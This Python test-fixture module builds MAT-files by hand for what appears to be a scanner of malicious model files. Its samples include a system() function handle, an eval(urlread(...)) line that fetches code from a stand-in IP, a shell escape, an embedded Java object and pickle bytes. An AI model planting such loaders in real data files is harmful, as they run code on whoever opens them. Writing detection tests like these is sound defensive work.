"""MAT-files of level 5, written by hand."""

from __future__ import annotations

import struct
import zlib

from stannary.testing.forges import forge
from stannary.testing.forges.configs import PICKLE

__all__ = ["mat_file"]

_RUN = "@() system('echo stannary')"


def mat_file(*elements: bytes) -> bytes:
    """Return a file of elements."""
    return b"MATLAB 5.0 MAT-file, Platform: GLNXA64".ljust(124) + struct.pack("<H", 0x0100) + b"IM" + b"".join(elements)


def _element(kind: int, data: bytes) -> bytes:
    return struct.pack("<II", kind, len(data)) + data + (bytes(-len(data) % 8) if kind != 15 else b"")


def _array(kind: int, rows: int, columns: int, *rest: bytes, name: str = "x") -> bytes:
    flags = _element(6, struct.pack("<II", kind, 0))
    return _element(14, flags + _element(5, struct.pack("<ii", rows, columns)) + _element(1, name.encode()) + b"".join(rest))


def _text(text: str, name: str = "x") -> bytes:
    return _array(4, 1, len(text), _element(4, text.encode("utf-16-le")), name=name)


def _handle(text: str) -> bytes:
    return _array(16, 1, 1, _text(text, ""), name="activation")


def _deep(levels: int) -> bytes:
    inner = _text("eval('x')", "")
    for _ in range(levels):
        inner = _array(1, 1, 1, inner, name="")
    return inner


_NUMBERS = _array(6, 1, 2, _element(9, struct.pack("<dd", 0.5, 1.5)), name="weights")
_JAVA = _element(
    14,
    _element(6, struct.pack("<II", 17, 0))
    + _element(1, b"x")
    + _element(1, b"java")
    + _element(1, b"java.util.PriorityQueue")
    + _NUMBERS,
)
_OWN = _array(
    3, 1, 1, _element(1, b"EvilClass"), _element(5, struct.pack("<i", 8)), _element(1, b"command\0"), _text("x", ""), name="o"
)
for _name, _content, _bad in (
    ("handle_system", mat_file(_NUMBERS, _handle(_RUN)), True),
    ("handle_compressed", mat_file(_element(15, zlib.compress(_handle(_RUN)))), True),
    ("text_evaluated", mat_file(_text("eval(urlread('http://203.0.113.9/x'))", "init")), True),
    ("text_shell", mat_file(_text("!echo stannary", "init")), True),
    ("java", mat_file(_JAVA), True),
    ("pickle_bytes", mat_file(_array(9, 1, len(PICKLE), _element(2, PICKLE))), True),
    ("own_class", mat_file(_OWN), False),
    (
        "plain",
        mat_file(_NUMBERS, _text("a model of the system (2.1)", "notes"), _element(15, zlib.compress(_handle("@(x) max(x, 0)")))),
        False,
    ),
    ("handle_of_nothing", mat_file(_array(16, 1, 1, _array(2, 1, 1, name="x"), name="f")), None),
    ("deep", mat_file(_deep(60)), None),
    ("truncated", mat_file(_NUMBERS)[:-20], None),
):
    forge(f"matlab.{_name}", filename="model.mat", family="MAT-files", malicious=_bad)(_content.__bytes__)
